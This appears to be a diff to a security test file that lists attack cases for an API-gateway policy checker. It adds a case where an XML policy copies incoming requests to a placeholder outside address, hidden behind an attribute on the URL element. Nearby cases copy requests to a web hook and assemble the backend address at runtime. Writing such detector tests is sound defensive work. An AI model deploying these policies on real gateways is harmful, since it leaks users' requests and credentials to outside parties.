@@ -108,6 +108,9 @@ ATTACKS = (
     _attack("API policy that copies requests to the web",
             _policy("<policies><inbound><send-one-way-request><set-url>https://hooks.example.de/x</set-url>"
                     "</send-one-way-request></inbound></policies>")),
+    _attack("API policy whose address has an attribute",
+            _policy('<policies><inbound><send-request mode="new"><set-url xml:space="preserve">https://x.example.de'
+                    "</set-url></send-request></inbound></policies>")),
     _attack("API policy that computes its backend",
             _policy("<policies><inbound><set-backend-service base-url=\"@(&quot;htt&quot; + context.Variables[0])\" />"
                     "</inbound></policies>")),
